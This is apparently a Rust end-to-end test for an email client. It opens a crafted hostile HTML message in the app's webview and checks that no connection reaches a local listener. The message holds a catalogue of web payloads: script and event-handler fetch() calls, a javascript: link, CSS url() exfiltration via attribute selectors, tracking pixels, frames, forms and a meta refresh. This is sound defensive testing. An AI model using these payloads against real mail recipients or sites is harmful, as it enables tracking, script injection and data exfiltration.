//! End to end: hostile HTML opened in the real webview does nothing. A
//! message carrying scripts, event handlers, `javascript:` links, CSS that
//! exfiltrates through `url()`, remote beacons, frames, objects, forms and
//! a meta refresh, all aimed at a listener on this machine, is opened in
//! the app; the listener must see no connection at all, and the window
//! must be untouched. Then "Load images" fetches the one legitimate
//! image, from a second listener, proving the listeners would have seen a
//! request had one been made.

use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use dealthread_core::ingest::{self, RawMessage};
use dealthread_mail::ReadOptions;
use dealthread_tests::webdriver::AppSession;
use fantoccini::Locator;

const WAIT: Duration = Duration::from_secs(30);

/// Counts every connection made to a port on 127.0.0.1 (and answers a bare
/// 204 to plain HTTP), until the test ends.
fn listener() -> (u16, Arc<AtomicUsize>) {
    let socket = TcpListener::bind("127.0.0.1:0").expect("bind a listener");
    let port = socket.local_addr().expect("its address").port();
    let seen = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&seen);
    std::thread::spawn(move || {
        for stream in socket.incoming() {
            counter.fetch_add(1, Ordering::SeqCst);
            if let Ok(mut stream) = stream {
                use std::io::Write;
                let _ = stream.set_write_timeout(Some(Duration::from_millis(200)));
                let _ = stream.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
            }
        }
    });
    (port, seen)
}

fn hostile_message(h: &str, hs: &str, control: &str) -> Vec<u8> {
    let html = format!(
        r#"<html><head>
<meta http-equiv="refresh" content="0;url={h}/refresh">
<link rel="stylesheet" href="{h}/link.css">
<style>@import url('{h}/import.css'); body {{ background: url('{h}/bg.png'); }}
@font-face {{ font-family: x; src: url('{hs}/font.woff'); }}
input[value^="a"] {{ background: url('{h}/exfil-a'); }}</style>
<script>fetch('{h}/script'); window.top.pwned = true; window.top.document.title = 'pwned';</script>
<base href="{h}/base/">
</head><body onload="fetch('{h}/onload')">
<p>Quarterly numbers attached. Please review before Friday.</p>
<img src="{h}/beacon.gif" width="1" height="1">
<img src="{hs}/pixel.png" style="display:none">
<img src="x" onerror="fetch('{h}/onerror')">
<img srcset="{hs}/srcset.png 2x">
<a href="javascript:fetch('{h}/jslink')">Open the proposal</a>
<a href="{h}/plain-link">Pricing page</a>
<div style="background-image:url('{h}/div-bg.png')">styled</div>
<iframe src="{h}/frame"></iframe>
<object data="{h}/object"></object>
<embed src="{h}/embed">
<svg><image href="{h}/svg-image"/></svg>
<video poster="{h}/poster.png" src="{h}/video.mp4" autoplay></video>
<audio src="{h}/audio.mp3" autoplay></audio>
<form action="{h}/form"><input name="q" value="abc"><button>Send</button></form>
<input type="image" src="{h}/input-image">
<table background="{h}/table-bg.png"><tr><td>cell</td></tr></table>
<img src="{control}/logo.png" alt="Company logo">
</body></html>"#
    );
    format!(
        "From: Quarterly Report <reports@northwind.example>\r\nTo: Sam Patel <sam.patel@acme-sales.example>\r\n\
         Cc: deal+D-1001@inbound.acme-sales.example\r\nSubject: Hostile quarterly numbers\r\n\
         Date: Fri, 20 Nov 2026 09:00:00 +0000\r\nMessage-ID: <hostile-1@northwind.example>\r\n\
         MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"
    )
    .into_bytes()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_html_neither_runs_nor_fetches_anything() {
    let (hostile_port, hostile) = listener();
    let (control_port, control) = listener();
    let dir = tempfile::tempdir().expect("tempdir");
    let db = dir.path().join("hostile.db");
    {
        let mut store = dealthread_core::Store::open(&db).expect("the store opens");
        dealthread_core::demo::load_if_empty(&mut store).expect("the demo");
        let raw = hostile_message(
            &format!("http://127.0.0.1:{hostile_port}"),
            &format!("https://127.0.0.1:{hostile_port}"),
            &format!("https://127.0.0.1:{control_port}"),
        );
        let batch =
            [RawMessage { bytes: raw, source: "file".into(), locator: "hostile.eml".into() }];
        ingest::ingest_batch(&mut store, &batch, &ReadOptions::default(), ingest::unix_now())
            .expect("ingest");
    }
    let session = AppSession::start(&db).await;
    let client = &session.client;
    client
        .wait()
        .at_most(WAIT)
        .for_element(Locator::Css("[data-deal-id='D-1001']"))
        .await
        .expect("the deal list")
        .click()
        .await
        .expect("open the deal");
    let started = Instant::now();
    let open = loop {
        let mut found = None;
        for button in
            client.find_all(Locator::Css("[data-testid=message-open]")).await.unwrap_or_default()
        {
            if button.text().await.unwrap_or_default().contains("Hostile quarterly numbers") {
                found = Some(button);
            }
        }
        if let Some(button) = found {
            break button;
        }
        assert!(started.elapsed() < WAIT, "the hostile message never showed on the timeline");
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    open.click().await.expect("open the message");
    let frame = client
        .wait()
        .at_most(WAIT)
        .for_element(Locator::Css("[data-testid=message-frame]"))
        .await
        .expect("the message frame");
    let blocked =
        client.find(Locator::Css("[data-testid=images-blocked]")).await.expect("the images notice");
    assert!(blocked.text().await.unwrap_or_default().contains("blocked"));

    // Inside the frame: the text rendered; the javascript: link does nothing.
    frame.clone().enter_frame().await.expect("enter the message frame");
    let body = client.find(Locator::Css("body")).await.expect("the frame's body");
    let text = body.text().await.expect("the frame's text");
    assert!(text.contains("Quarterly numbers attached"), "the message renders: {text}");
    if let Ok(link) = client.find(Locator::LinkText("Open the proposal")).await {
        let _ = link.click().await;
    }
    client.enter_parent_frame().await.expect("back to the app");
    tokio::time::sleep(Duration::from_secs(3)).await;

    assert_eq!(hostile.load(Ordering::SeqCst), 0, "the hostile message reached the listener");
    assert_eq!(control.load(Ordering::SeqCst), 0, "no image loads before the rep asks");
    let window = client
        .execute("return [document.title, String(window.pwned)];", vec![])
        .await
        .expect("read the window");
    assert_eq!(window, serde_json::json!(["Dealthread", "undefined"]), "no script touched the app");

    // Loading images fetches the legitimate one, and still nothing hostile.
    client
        .find(Locator::Css("[data-testid=load-images]"))
        .await
        .expect("load images")
        .click()
        .await
        .expect("click");
    let started = Instant::now();
    while control.load(Ordering::SeqCst) == 0 {
        assert!(
            started.elapsed() < WAIT,
            "the loaded image was never requested: the listeners could not tell"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert_eq!(hostile.load(Ordering::SeqCst), 0, "loading images let a hostile request through");
    session.finish().await;
}
